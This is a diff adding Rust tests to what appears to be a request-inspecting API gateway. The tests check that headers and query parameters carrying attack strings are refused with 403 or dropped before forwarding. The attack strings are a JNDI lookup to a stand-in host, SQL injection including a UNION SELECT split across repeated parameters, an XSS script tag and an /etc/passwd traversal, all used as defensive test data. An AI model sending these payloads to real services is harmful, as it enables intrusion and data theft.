@@ -127,6 +127,78 @@ fn rules_of_a_directory_see_header_query_and_body() {
 }
 
 #[test]
+fn fields_nobody_declared_are_inspected_without_any_setting() {
+    let upstream = RecordingUpstream::always(NOTE);
+    let server = serve(gate(&upstream));
+    let key = server.key("alpha");
+    let get = |name: &str, value: &str| {
+        let asked = call("GET", "/v1/notes/1").with(name, value);
+        server.send(&asked, Some(&key))
+    };
+    let lookup = get("User-Agent", "${jndi:ldap://a.example/x}");
+    assert_eq!(lookup.status, 403, "{}", lookup.text());
+    let (code, places) = told(&lookup);
+    assert!(code.starts_with("inspect."), "{code}");
+    assert!(
+        places.iter().all(|place| place == "header user-agent"),
+        "{places:?}"
+    );
+    let words = explained(&server, &lookup);
+    assert!(words.contains("pack.jndi.lookup"), "{words}");
+    let key_of_order = get("Idempotency-Key", "1' or '1'='1");
+    assert_eq!(
+        told(&key_of_order),
+        refused("inspect.sqli", "header idempotency-key")
+    );
+    assert_eq!(upstream.requests().len(), 0);
+    // What no standard knows is not written; the request goes on without it.
+    for (name, value) in [
+        ("Accept", "${jndi:ldap://a.example/x}"),
+        ("Accept-Language", "en; drop table notes"),
+        ("Prefer", "<script>alert(1)</script>"),
+        ("Traceparent", "00-../../etc/passwd-b7ad6b7169203331-01"),
+    ] {
+        let answer = get(name, value);
+        assert_eq!(answer.status, 200, "{name}: {}", answer.text());
+        let got = upstream.requests().pop().unwrap();
+        assert_eq!(got.header(&name.to_lowercase()), None, "{name}");
+    }
+    for (name, value) in [
+        ("Accept", "application/json, text/plain, */*"),
+        ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
+        ("Prefer", "return=minimal"),
+        (
+            "Traceparent",
+            "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
+        ),
+        (
+            "User-Agent",
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        ),
+    ] {
+        let answer = get(name, value);
+        assert_eq!(answer.status, 200, "{name}: {}", answer.text());
+        let got = upstream.requests().pop().unwrap();
+        assert_eq!(got.header(&name.to_lowercase()), Some(value), "{name}");
+    }
+}
+
+#[test]
+fn an_attack_in_pieces_of_one_parameter_is_refused() {
+    let upstream = RecordingUpstream::always("[]");
+    let server = serve(gate(&upstream));
+    let key = server.key("alpha");
+    let list = |query: &str| server.send(&call("GET", &format!("/v1/notes?{query}")), Some(&key));
+    // Frameworks that join repeated parameters put a comma between them.
+    let pieces = list("tag=1%20union%2F*&tag=*%2Fselect%201&tag=2%20from%20users");
+    assert_eq!(pieces.status, 403, "{}", pieces.text());
+    assert_eq!(told(&pieces), refused("inspect.sqli", "query tag"));
+    assert_eq!(upstream.requests().len(), 0);
+    let plain = list("tag=boiler&tag=pump&tag=union%20select");
+    assert_eq!(plain.status, 200, "{}", plain.text());
+}
+
+#[test]
 fn a_credential_is_never_shown_to_rules() {
     let upstream = RecordingUpstream::always(NOTE);
     for passed in ["", "      pass_credential: true\n"] {
